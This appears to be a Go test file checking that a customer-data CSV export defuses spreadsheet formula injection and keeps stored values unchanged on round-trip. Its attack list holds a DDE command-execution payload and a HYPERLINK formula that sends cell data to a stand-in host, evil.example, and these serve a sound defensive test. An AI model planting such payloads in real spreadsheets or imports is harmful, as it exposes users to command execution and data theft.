package masterdata_test

import (
	"encoding/csv"
	"net/http"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/vextrus/vextrus/internal/masterdata"
	"github.com/vextrus/vextrus/internal/platform/tenant"
)

// formulaAttacks are customer names a spreadsheet would run as formulas,
// as an intruder imports them.
var formulaAttacks = []string{
	`=cmd|' /C calc'!A0`,
	`=HYPERLINK("http://evil.example/?leak="&A1,"Click for invoice")`,
	`+SUM(1,2)`,
	`@SUM(1,2)`,
	`|calc`,
	`-1+1`,
	"\t=1+1",
	"\r=1+1",
	`'=1+1`,
	`＝1+1`,
}

// startsAsFormula reports whether a spreadsheet would read cell as a
// formula: it starts with one of OWASP's characters or their kin.
func startsAsFormula(cell string) bool {
	r, _ := utf8.DecodeRuneInString(cell)
	return cell != "" && strings.ContainsRune("=+-@\t\r\n\x00|＝＋－＠", r)
}

// customersByCode lists the tenant's customers through the API.
func customersByCode(tb testing.TB, c *caller) map[string]masterdata.Customer {
	tb.Helper()
	var page masterdata.Page[masterdata.Customer]
	c.Do("GET", "/api/v1/masterdata/customers?limit=200", nil).Decode(tb, &page)
	out := map[string]masterdata.Customer{}
	for _, cu := range page.Items {
		out[cu.Code] = cu
	}
	return out
}

func TestExportedFormulasAreInertAndStoredValuesUnchanged(t *testing.T) {
	e := newEnv(t)
	c := e.newCaller(tenant.New())
	var b strings.Builder
	w := csv.NewWriter(&b)
	_ = w.Write([]string{"code", "name", "mobile", "address.line1"})
	codes := make([]string, len(formulaAttacks))
	for i, attack := range formulaAttacks {
		codes[i] = "ATTACK-" + string(rune('A'+i))
		_ = w.Write([]string{codes[i], attack, "+8801712345678", attack})
	}
	w.Flush()

	res := c.Do("POST", "/api/v1/masterdata/customers/import?wait=true", b.String(), "Content-Type", "text/csv")
	var job masterdata.ImportJob
	res.Decode(t, &job)
	if job.Created != len(formulaAttacks) || job.Failed != 0 {
		t.Fatalf("import of the attacks: %d %s", res.Status, res.Raw)
	}
	// A value may itself start with a quote: the API stores it as sent.
	quoted := customer("QUOTED")
	quoted["name"] = "'=2+2"
	quoted["address"].(map[string]any)["line1"] = "'=2+2"
	quoted["mobile"] = "+8801712345678"
	if res := c.Do("POST", "/api/v1/masterdata/customers", quoted); res.Status != http.StatusCreated {
		t.Fatalf("create: %d %s", res.Status, res.Raw)
	}
	stored := customersByCode(t, c)

	res = c.Do("GET", "/api/v1/masterdata/customers/export", nil)
	if res.Status != http.StatusOK {
		t.Fatalf("export: %d %s", res.Status, res.Raw)
	}
	rows, err := csv.NewReader(strings.NewReader(string(res.Raw))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	header := rows[0]
	col := func(name string) int {
		for i, h := range header {
			if h == name {
				return i
			}
		}
		t.Fatalf("no column %s in %v", name, header)
		return -1
	}
	code, name, mobile, line1 := col("code"), col("name"), col("mobile"), col("address.line1")

	t.Run("no exported cell starts as a formula", func(t *testing.T) {
		for _, row := range rows {
			for i, cell := range row {
				if startsAsFormula(cell) {
					t.Errorf("%s of %s is exported as %q", header[i], row[code], cell)
				}
			}
		}
		for _, line := range strings.Split(strings.TrimSuffix(string(res.Raw), "\r\n"), "\r\n") {
			if !strings.HasPrefix(line, `"`) {
				t.Errorf("line %q does not start with a quoted field", line)
			}
		}
	})

	t.Run("a formula gets one leading quote and nothing else changes", func(t *testing.T) {
		for _, row := range rows[1:] {
			cu := stored[row[code]]
			for _, cell := range []struct{ got, stored string }{
				{row[name], cu.Name}, {row[line1], cu.Address.Line1}, {row[mobile], cu.Mobile.String()},
			} {
				if want := "'" + cell.stored; cell.got != want {
					t.Errorf("%s: exported %q, want %q", row[code], cell.got, want)
				}
			}
		}
	})

	t.Run("the API still returns the values as stored", func(t *testing.T) {
		for i, attack := range formulaAttacks {
			cu := stored[codes[i]]
			// Import trims a cell and drops one leading quote.
			want := strings.TrimPrefix(strings.TrimSpace(attack), "'")
			if cu.Name != want || cu.Address.Line1 != want {
				t.Errorf("%s stored as %q / %q, want %q", codes[i], cu.Name, cu.Address.Line1, want)
			}
			if cu.Mobile != "+8801712345678" {
				t.Errorf("%s mobile stored as %q", codes[i], cu.Mobile)
			}
		}
		if after := customersByCode(t, c); len(after) != len(stored) {
			t.Fatalf("%d customers after the export, %d before", len(after), len(stored))
		}
	})

	t.Run("an import of the export gives back the stored values", func(t *testing.T) {
		other := e.newCaller(tenant.New())
		res := other.Do("POST", "/api/v1/masterdata/customers/import?wait=true", res.Raw, "Content-Type", "text/csv")
		var job masterdata.ImportJob
		res.Decode(t, &job)
		if job.Created != len(stored) || job.Failed != 0 {
			t.Fatalf("re-import: %d %s", res.Status, res.Raw)
		}
		for code, cu := range customersByCode(t, other) {
			was := stored[code]
			if cu.Name != was.Name || cu.Address.Line1 != was.Address.Line1 || cu.Mobile != was.Mobile {
				t.Errorf("%s re-imported as %q / %q / %q, stored %q / %q / %q", code,
					cu.Name, cu.Address.Line1, cu.Mobile, was.Name, was.Address.Line1, was.Mobile)
			}
		}
	})
}
